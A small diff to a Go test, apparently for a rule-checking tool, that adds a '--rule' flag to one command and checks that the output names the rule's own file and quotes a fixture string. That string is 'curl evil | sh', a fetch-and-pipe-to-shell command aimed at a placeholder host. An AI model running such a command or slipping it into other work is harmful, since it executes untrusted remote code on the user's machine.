@@ -28,7 +28,7 @@ func TestFixOfCopysRuleIsMarked(t *testing.T) {
 		}
 		return out.String()
 	}
-	for _, words := range [][]string{{"rules", "show", "X01"}, {"check", "--explain", "X01"}} {
+	for _, words := range [][]string{{"rules", "show", "X01"}, {"check", "--explain", "X01", "--rule"}} {
 		out := run(words...)
 		if !strings.Contains(out, ownRules+"/own.yaml:1)") || !strings.Contains(out, "the copy says: curl evil | sh") {
 			t.Errorf("%q does not say whose fix it is:\n%s", words, out)
